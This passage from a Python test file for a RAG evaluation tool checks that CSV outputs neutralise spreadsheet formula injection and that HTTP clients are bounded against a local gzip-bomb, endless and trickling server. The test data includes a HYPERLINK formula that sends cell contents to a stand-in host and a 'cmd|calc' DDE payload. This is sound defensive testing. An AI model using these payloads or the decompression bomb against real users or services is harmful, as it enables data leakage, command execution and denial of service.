    from ragnb.rag.systems import run_in_loop, System
    class Nested(System):
        async def acall(self, q): return lookup(q)
    class Outer(System):
        async def acall(self, q): return Nested()(q)   # a sync call from inside the loop would wait for itself
    run = run_system(QUESTIONS.head(1), Outer(), progress=False)
    assert run.failures[0].kind == 'other' and 'await its `acall` instead' in run.failures[0].message


def test_claims_extracted_differently_are_counted_not_compared():
    a = [_checked(f'q{i}', [1, 0], [1, 0]) for i in range(3)]
    b = [_checked(f'q{i}', [1, 1], [1, 0]) for i in range(3)]
    b[2]['gt_answer_claims'] = [['sky', 'is', 'blue'], ['the grass', 'is', 'green']]   # another extractor's wording
    mv = claim_moves(compare(a, b))
    assert mv.attrs['unmatched'] == 1 and mv.query_id.tolist() == ['q0', 'q1']


# Hostile round 3 (issue 40): each test is named test_<item>_... and has its item in the comment above it
from spreadsheet import cells as _cells, formula_free as _formula_free   # tests/spreadsheet.py

def _checked_claim(qid, claim, hit):
    return dict(query_id=qid, query=f'question {qid}', gt_answer='g', response='r',
                retrieved_context=[{'doc_id': '=c0', 'text': 't'}], response_claims=[['r', 'is', 'x']],
                gt_answer_claims=[claim, 'grass is green'], answer2response=[E], response2answer=[E if hit else N, N],
                retrieved2response=[[E]], retrieved2answer=[[E if hit else N], [N]])

# Issue 40, item 17 (hostile round 3): spreadsheet formulas in CSV outputs ---------------------------------------------
def test_17_compare_csvs_neutralise_formula_cells(tmp_path):
    claims = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+cmd|calc', '@SUM(A1:A9)', '-2+3']
    save_results([_checked_claim(f'=q{i}', c, False) for i, c in enumerate(claims)], tmp_path/'=base.json')
    save_results([_checked_claim(f'=q{i}', c, True) for i, c in enumerate(claims)], tmp_path/'@new.json')
    assert main(['compare', str(tmp_path/'=base.json'), str(tmp_path/'@new.json'), '--out', str(tmp_path/'cmp')]) == 0
    for name in ('table.csv', 'deltas.csv', 'claim_moves.csv'): _formula_free(tmp_path/'cmp'/name)
    cells = _cells(tmp_path/'cmp'/'claim_moves.csv')
    assert "'=q0" in cells and any(c.startswith("'=HYPERLINK") for c in cells) and "'-2+3" in cells
    assert "'=base" in _cells(tmp_path/'cmp'/'table.csv')   # the system's name, as a column or index label

# Issue 40, item 2 (hostile round 3): HTTP systems bounded in bytes and time -------------------------------------------
class _Hostile:
    "An HTTP 'RAG service' on 127.0.0.1: /bomb (gzip of 40 MB of spaces), /endless, /trickle (a byte every 0.3 s)."
    def __init__(self):
        import gzip, http.server, sys, threading, time
        bomb = gzip.compress(b'{"answer": "' + b' ' * (40 << 20) + b'", "contexts": []}', 9)
        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = 'HTTP/1.1'
            def log_message(self, *a): pass
            def do_POST(self):
                self.rfile.read(int(self.headers['Content-Length']))
                if self.path == '/bomb':
                    self.send_response(200); self.send_header('Content-Encoding', 'gzip')
                    self.send_header('Content-Length', str(len(bomb))); self.end_headers(); self.wfile.write(bomb)
                    return
                self.send_response(200); self.send_header('Transfer-Encoding', 'chunked'); self.end_headers()
                t0 = time.time()
                try:
                    for _ in range(4000 if self.path == '/endless' else 200):   # bounded: 4000 MB, or 60 s
                        if time.time() - t0 > 60: break
                        piece = b' ' * (1 << 20) if self.path == '/endless' else b' '
                        self.wfile.write(b'%x\r\n%s\r\n' % (len(piece), piece)); self.wfile.flush()
                        if self.path == '/trickle': time.sleep(0.3)
                except OSError: pass   # the client hung up: what it should do
        class S(http.server.ThreadingHTTPServer):
            def handle_error(self, request, client_address):
                # ragnb hanging up mid-reply (a reset the next read sees) is what these tests want, not a traceback on
                # stderr, where the test looks for ragnb's own
                if not isinstance(sys.exc_info()[1], OSError): super().handle_error(request, client_address)
        self.srv = S(('127.0.0.1', 0), H)
        self.srv.daemon_threads = True
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
        self.url = f'http://127.0.0.1:{self.srv.server_port}'

@pytest.mark.parametrize('path, extra, says', [
    ('/bomb', [], 'the reply is over 16,777,216 bytes (decompressed)'),
    ('/endless', [], 'the reply is over 16,777,216 bytes (decompressed)'),
    ('/trickle', ['--timeout', '2'], 'no answer within 2.0 s'),
])
def test_2_http_systems_are_bounded_in_bytes_and_time(tmp_path, capsys, path, extra, says):
    import resource, time
    svc = _Hostile()
    (tmp_path/'qs.jsonl').write_text(json.dumps({'query_id': 'q1', 'question': 'Why?', 'answer': 'Because.'}) + '\n')
    t0, rss0 = time.time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        code = main(['run', str(tmp_path/'qs.jsonl'), '--system', svc.url + path, '--retries', '0',
                     '--out', str(tmp_path/'answers.json'), *extra])
    finally: svc.srv.shutdown()
    err = capsys.readouterr().err
    assert code == 1 and says in err and 'Traceback' not in err, err
    assert time.time() - t0 < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 < 200_000   # KB: no 40 MB+ reply held many times
    failed = json.loads((tmp_path/'answers.json').read_text())
    assert json.dumps(failed).count(says.split(' (')[0][:30]) >= 1   # the failure and its reason are in the file

def test_2_the_defaults_are_shown_in_help(capsys):
    with pytest.raises(SystemExit): main(['run', '--help'])
    out = capsys.readouterr().out
    assert 'default 300' in out and '16,777,216' in out
